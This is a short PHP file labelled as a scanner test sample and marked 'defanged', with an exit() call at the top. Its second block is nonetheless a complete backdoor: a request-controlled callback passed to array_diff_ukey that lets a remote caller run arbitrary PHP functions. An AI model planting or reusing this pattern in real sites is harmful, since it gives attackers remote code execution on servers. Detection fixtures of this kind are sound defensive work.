<?php /* ShopGuard test sample, DEFANGED: shape of a real family, payload removed. Never deploy. */ exit('defanged'); ?>
<?php
@array_diff_ukey(@array((string)$_REQUEST['sg_a']=>1), @array((string)stripslashes($_REQUEST['sg_b'])=>2), $_REQUEST['sg_cb']);
